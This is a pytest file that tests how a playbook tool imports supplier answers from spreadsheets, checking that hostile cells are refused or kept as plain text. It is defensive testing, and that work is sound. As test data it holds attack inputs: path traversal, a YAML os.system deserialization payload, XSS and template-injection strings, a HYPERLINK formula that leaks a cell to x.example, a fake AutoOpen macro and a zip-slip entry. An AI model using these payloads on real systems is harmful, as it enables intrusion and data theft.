"""Answers that come back: kept beside the inventory, and never over what stands there."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from pack.cases import files, opened, packed, project
from playbook.handover.answers import Sorted, take
from playbook.problems import Unusable
from test_cli import run

KEPT = Path("content", "organisations", "x", "answers", "ours.yaml")
HEAD = "Code;Answer\r\n"


def sheet(*rows: tuple[str, str]) -> bytes:
    return (HEAD + "".join(f'{ident};"{text}"\r\n' for ident, text in rows)).encode()


def taken(root: Path, *rows: tuple[str, str], dry: bool = False) -> Sorted:
    return take(opened(root), "back.csv", sheet(*rows), "ours", dry)


def test_an_answer_is_kept_with_its_day_and_place(tmp_path: Path) -> None:
    root = project(tmp_path / "p")
    found = taken(root, ("SCO-03.pay", "Aan de poort"), ("QUA-01.pay", ""))
    assert (len(found.new), found.empty, found.unreadable) == (1, 1, ())
    kept = opened(root).portfolios[0].inventory.answers["ours"][0]
    assert (kept.question, kept.answer, kept.source) == (
        "SCO-03.pay",
        "Aan de poort",
        "back.csv B2",
    )
    assert kept.on.isoformat() == "2026-11-24"


def test_new_changed_and_unchanged(tmp_path: Path) -> None:
    root = project(tmp_path / "p")
    taken(root, ("SCO-03.pay", "one"), ("RES-05.pay", "two"))
    found = taken(root, ("SCO-03.pay", "other"), ("RES-05.pay", "two"), ("RES-06.pay", "three"))
    assert [len(found.new), len(found.changed), found.unchanged] == [1, 1, 1]
    kept = opened(root).portfolios[0].inventory.answers["ours"]
    assert [item.answer for item in kept] == ["one", "two", "three", "other"]


def test_what_the_organisation_wrote_stays(tmp_path: Path) -> None:
    root = project(tmp_path / "p")
    taken(root, ("SCO-03.pay", "one"))
    mine = (root / KEPT).read_text("utf-8").replace('"one"', '"one"\n  remark: Ask again   # Anna')
    (root / KEPT).write_text(mine, "utf-8")
    taken(root, ("SCO-03.pay", "two"))
    assert (root / KEPT).read_text("utf-8").startswith(mine)
    kept = opened(root).portfolios[0].inventory.answers["ours"]
    assert [item.remark for item in kept] == ["Ask again", None]


def test_a_dry_run_keeps_nothing(tmp_path: Path) -> None:
    root = project(tmp_path / "p")
    assert taken(root, ("SCO-03.pay", "one"), dry=True).new
    assert not (root / KEPT).exists()


@pytest.mark.parametrize(
    ("ident", "why"),
    [
        ("SCO-99.pay", "not the id of a question"),
        ("../../etc/passwd", "not the id of a question"),
        ("SCO-03", "not the id of a question"),
        ("SCO-03.hire", "not shared with this supplier"),
        ("SCO-03.nothing", "not shared with this supplier"),
        ("\x1b[31mred", "not the id of a question"),
        ("", "id is missing"),
    ],
)
def test_S26_a_wrong_id_is_told_with_its_cell_and_changes_nothing(
    tmp_path: Path, ident: str, why: str
) -> None:
    root = project(tmp_path / "p")
    found = taken(root, (ident, "x"))
    assert found.unreadable[0][0] == "B2"
    assert why in found.unreadable[0][1]
    assert "\x1b" not in found.unreadable[0][1]
    assert not (root / KEPT).exists()


def test_a_question_that_is_answered_twice_is_told(tmp_path: Path) -> None:
    found = taken(project(tmp_path / "p"), ("SCO-03.pay", "one"), ("SCO-03.pay", "two"))
    assert not found.new
    assert "B3" in found.unreadable[0][1]


HOSTILE = [
    "- a: b\n  c: [1, 2",
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a]",
    "x: |\n  y",
    "# no comment",
    "'single' \\ back",
    "  first line is in\nthen not",
    "line one\n\n\nline four",
    "--- \n...",
    "{{ 7*7 }} {process}`pay`",
    "<script>alert(1)</script>",
    "\u2028 and \u0085 and \ufeff",
    "no",
    "2026-01-01",
    "12:30",
    "~",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_S26_an_answer_is_kept_as_the_text_that_it_is(tmp_path: Path, text: str) -> None:
    root = project(tmp_path / "p")
    found = taken(root, ("SCO-03.pay", text.replace('"', '""')))
    assert found.new, found
    kept = opened(root).portfolios[0].inventory.answers["ours"][0]
    assert kept.answer == found.new[0].answer
    assert taken(root, ("SCO-03.pay", text.replace('"', '""'))).unchanged == 1


def test_answers_never_go_out(tmp_path: Path) -> None:
    root = project(tmp_path / "p")
    taken(root, ("SCO-03.pay", "A very particular answer"))
    before = packed(project(tmp_path / "q"))
    assert packed(root).path.read_bytes() == before.path.read_bytes()


def test_answers_of_nobody_are_told(tmp_path: Path) -> None:
    root = project(tmp_path / "p")
    (root / KEPT).parent.mkdir()
    (root / KEPT).with_name("nobody.yaml").write_text(
        "- {question: SCO-03.pay, on: 2026-01-01, answer: x}\n", "utf-8"
    )
    with pytest.raises(Unusable, match="no supplier “nobody”"):
        opened(root)


def test_the_command_says_what_it_read(tmp_path: Path) -> None:
    root = project(tmp_path / "p")
    (tmp_path / "back.csv").write_bytes(sheet(("SCO-03.pay", "Ja"), ("XXX-01.pay", "Nee")))
    done = run("answers", str(tmp_path / "back.csv"), "--supplier", "ours", folder=root)
    assert done.returncode == 1
    assert "New: SCO-03.pay: Ja" in done.stderr
    assert "Not read: B3: “XXX-01.pay” is not the id of a question." in done.stderr
    assert "1 new, 0 changed, 0 unchanged, 1 not read" in done.stderr
    who = run("answers", str(tmp_path / "back.csv"), folder=root)
    assert "it is not said who sent this" in who.stderr
    (tmp_path / "back.xlsx").write_bytes(b"PK\x03\x04 broken")
    broken = run("answers", str(tmp_path / "back.xlsx"), "--supplier", "ours", folder=root)
    assert "damaged" in broken.stderr
    assert "Traceback" not in broken.stderr


def hostile(archive: bytes) -> bytes:
    """Return the sheet of an archive as an attacker might send it back."""
    book = openpyxl.load_workbook(io.BytesIO(archive))
    sheet = book.worksheets[0]
    ids = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert len(ids) >= 4
    sheet["E2"] = "<img src=x onerror=alert(1)> & {{ 7*7 }}"
    sheet["E3"] = '=HYPERLINK("http://x.example/?"&A1)'
    sheet["E4"] = "x" * 32_000
    sheet["A5"], sheet["E5"] = "../../../playbook.yaml", "title: mine"
    for at, ident in enumerate(("SCO-99.pay", "SCO-03.hire", ids[0], "\u202egnp.pay"), 6):
        sheet.cell(at, 1).value, sheet.cell(at, 5).value = ident, "other"
    made = io.BytesIO()
    book.save(made)
    with zipfile.ZipFile(made, "a") as changed:
        changed.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 AutoOpen")
        changed.writestr("xl/externalLinks/externalLink1.xml", b"<externalLink/>")
        changed.writestr("../../evil.txt", b"evil")
    return made.getvalue()


def test_S26_a_sheet_of_hostile_answers_keeps_what_it_may_and_changes_nothing_else(
    tmp_path: Path,
) -> None:
    root = project(tmp_path / "p")
    whole = files(packed(root).path)
    (sheet_,) = (data for name, data in whole.items() if name.endswith(".xlsx"))
    (tmp_path / "terug <b>.xlsm").write_bytes(hostile(sheet_))
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    done = run("answers", str(tmp_path / "terug <b>.xlsm"), "--supplier", "ours", folder=root)
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    told = [line for line in done.stderr.splitlines() if line.startswith("Not read:")]
    for place, why in (
        ("E3", "a formula"),
        ("E4", "longer than"),
        ("A5", "not the id of a question"),
        ("A6", "not the id of a question"),
        ("A7", "not shared with this supplier"),
        ("E2", "answered in"),
        ("A9", "not the id of a question"),
    ):
        assert any(place[1:] in line and why in line for line in told), (place, why, told)
    after = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    assert after == before, "an answer given twice is not kept, and nothing else is touched"


def test_S26_html_that_is_answered_is_shown_as_text(tmp_path: Path) -> None:
    root = project(tmp_path / "p")
    taken(root, ("SCO-03.pay", "<img src=x onerror=alert(1)> </script> {{ 7*7 }}"))
    site = opened(root)
    for address in ("x/en/trust.html", "x/en/suppliers/ours.html"):
        html = site.html(site.pages[address]).decode()
        assert "<img" not in html
        assert "&lt;img src=x onerror=alert(1)&gt; &lt;/script&gt; {{ 7*7 }}" in html
